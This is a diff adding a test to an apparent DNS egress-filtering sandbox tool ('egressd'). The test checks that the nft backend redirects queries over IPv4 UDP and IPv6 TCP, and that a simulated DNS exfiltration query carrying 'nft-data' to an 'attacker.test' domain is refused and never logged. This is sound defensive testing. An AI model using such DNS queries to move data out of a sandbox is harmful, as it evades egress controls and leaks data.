@@ -263,4 +263,14 @@ describe.skipIf(skip !== null)("egressd answers the sandboxes' DNS", () => {
     expect(spoof.code).not.toBe(0);
     expect(await outcome(`${OTHER}:443`)).toMatchObject({ verdict: 'refuse', reason: 'dns-mismatch' });
   });
+
+  it('redirects the same way with the nft backend, over IPv4 UDP and IPv6 TCP', async () => {
+    const removed = await rig.execIn('router', NODE, [join(ROOT, 'src/main.ts'), 'iptables', '--remove'], { timeoutMs: 30_000 });
+    expect(removed.code, removed.stderr).toBe(0);
+    await rig.redirect(PORTS, { backend: 'nft' });
+    expect(await dig(`@${rig.dnsServer}`, '+short', 'allowed.test', 'A')).toBe(`${ALLOWED}\n`);
+    expect(await dig(`@${rig.dnsServerV6}`, '+short', '+tcp', 'good.test', 'AAAA')).toBe(`${GOOD6}\n`);
+    expect(await dig('@8.8.8.8', 'nft-data.attacker.test', 'A')).toMatch(/status: NXDOMAIN/);
+    expect(rig.dnsLog()).not.toContain('nft-data');
+  });
 });
